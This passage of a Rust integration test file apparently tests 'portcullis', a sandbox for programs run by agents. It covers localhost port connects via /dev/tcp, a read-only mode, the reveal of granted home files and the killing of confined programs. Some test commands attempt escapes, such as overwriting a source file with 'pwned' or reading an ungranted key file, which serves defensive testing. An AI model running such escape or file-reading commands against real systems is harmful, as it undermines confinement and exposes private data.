                text(&out)
            );
        }
        // Any other port is reached, by a blocking and a non-blocking
        // connect made for the program.
        let out = world.bash(
            "exec 3<>/dev/tcp/127.0.0.1/$OTHER && python3 -c \"import socket, os; s = socket.socket(); s.setblocking(False); print(s.connect_ex(('127.0.0.1', int(os.environ['OTHER']))) in (0, 115))\"",
            true,
            &options,
            &env,
        );
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "True",
            "as {user:?}: {}",
            text(&out)
        );
        // Unconfined, the race reaches the port: the case can fail. The
        // listener counts what it accepts on its own thread, which may lag
        // behind the connection on a loaded machine: give it a moment.
        // The race is a race: on a machine busy with the rest of the suite
        // one 2 s run may never interleave, so the control runs up to 3 times.
        let before = reached_now();
        let mut control = None;
        for _ in 0..3 {
            control = Some(world.bash(CONNECT_RACE, false, &[], &env));
            let waited = std::time::Instant::now();
            while reached_now() == before && waited.elapsed() < std::time::Duration::from_secs(5) {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            if reached_now() > before {
                break;
            }
        }
        let control = control.expect("the control ran");
        assert!(
            reached_now() > before,
            "the race control never connected\n{}",
            text(&control)
        );
    }
}

#[test]
fn a_refusal_names_what_is_wrong_and_runs_nothing() {
    let world = World::new(None);
    let out = world.bash("echo ran", true, &[], &[]);
    assert!(out.status.success(), "{}", text(&out));
    // A working directory without a workspace (`/`) is refused.
    let out = Command::new(BIN)
        .args(["run", "--cwd", "/", "--", "sh", "-c", "echo ran"])
        .env("HOME", world.home())
        .env("PORTCULLIS_DATA_DIR", world.data())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(125), "{}", text(&out));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("ran"));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no workspace"),
        "{}",
        text(&out)
    );
    // A program that does not exist.
    let out = Command::new(BIN)
        .args(["run", "--", "no-such-program-anywhere"])
        .current_dir(world.ws())
        .env("HOME", world.home())
        .env("PORTCULLIS_DATA_DIR", world.data())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(125), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("not found"),
        "{}",
        text(&out)
    );
    let _ = std::io::stderr().flush();
}

#[test]
fn read_only_leaves_only_the_temporary_directory_writable() {
    for user in users() {
        let world = World::new(user);
        let out = world.bash(
            "cat src/main.rs >/dev/null && echo read-ok; echo t > \"$TMPDIR/t\" && echo tmp-ok; echo x > out.txt && echo ESCAPED; sed -i s/main/pwned/ src/main.rs && echo ESCAPED",
            true,
            &["--read-only"],
            &[],
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            stdout.contains("read-ok") && stdout.contains("tmp-ok"),
            "{}",
            text(&out)
        );
        assert!(!stdout.contains("ESCAPED"), "{}", text(&out));
        assert!(!world.ws().join("out.txt").exists());
        assert_eq!(
            std::fs::read_to_string(world.ws().join("src/main.rs")).unwrap(),
            "fn main() {}\n"
        );
    }
}

#[test]
fn the_homes_tools_are_readable_and_a_granted_file_is_revealed_alone() {
    for user in users() {
        let world = World::new(user);
        let tool = world.home().join("bin/tool");
        std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let out = world.bash(
            "~/bin/tool; cat ~/.config/tool/settings; cat ~/Downloads/report.txt; cat ~/Downloads/other.txt",
            true,
            &["--reveal", &world.home().join("Downloads/report.txt").to_string_lossy()],
            &[],
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("tool-ran"), "{}", text(&out));
        assert!(stdout.contains("SETTINGS"), "{}", text(&out));
        assert!(stdout.contains("REPORT"), "{}", text(&out));
        assert!(!stdout.contains("KEYDATA"), "{}", text(&out));
    }
}

#[test]
fn the_program_dies_with_portcullis_run() {
    use std::io::BufRead;
    let world = World::new(None);
    let mut child = Command::new(BIN)
        .args([
            "run",
            "--",
            "bash",
            "-c",
            "echo \"$TMPDIR\"; echo data > \"$TMPDIR/f\"; exec -a portcullis-confined-sleeper sleep 60",
        ])
        .env("HOME", world.home())
        .env("PORTCULLIS_DATA_DIR", world.data())
        .current_dir(world.ws())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut tmpdir = String::new();
    out.read_line(&mut tmpdir).unwrap();
    let tmpdir = PathBuf::from(tmpdir.trim());
    // The program's pid on the host (inside, it has its own PID namespace).
    let sleeper = || {
        std::fs::read_dir("/proc").unwrap().flatten().find_map(|e| {
            let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
            cmdline
                .starts_with(b"portcullis-confined-sleeper")
                .then(|| e.file_name().to_string_lossy().into_owned())
        })
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let program = loop {
        if let Some(pid) = sleeper() {
            break pid;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the program never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    // An agent that gives up on the call kills `portcullis run`.
    child.kill().unwrap();
    child.wait().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while Path::new(&format!("/proc/{program}/status")).exists()
        && !std::fs::read_to_string(format!("/proc/{program}/status"))
            .unwrap_or_default()
            .contains("State:\tZ")
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the confined program outlived portcullis run"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    // Killed before it could clean up, it leaves at most an empty directory:
    // what the program wrote lived in its own tmpfs.
    assert!(!tmpdir.exists(), "{} was left behind", tmpdir.display());
    let scratch = tmpdir.parent().expect("the run's directory");
    if scratch.exists() {
        assert_eq!(std::fs::read_dir(scratch).unwrap().count(), 0);
        std::fs::remove_dir(scratch).unwrap();
    }
}
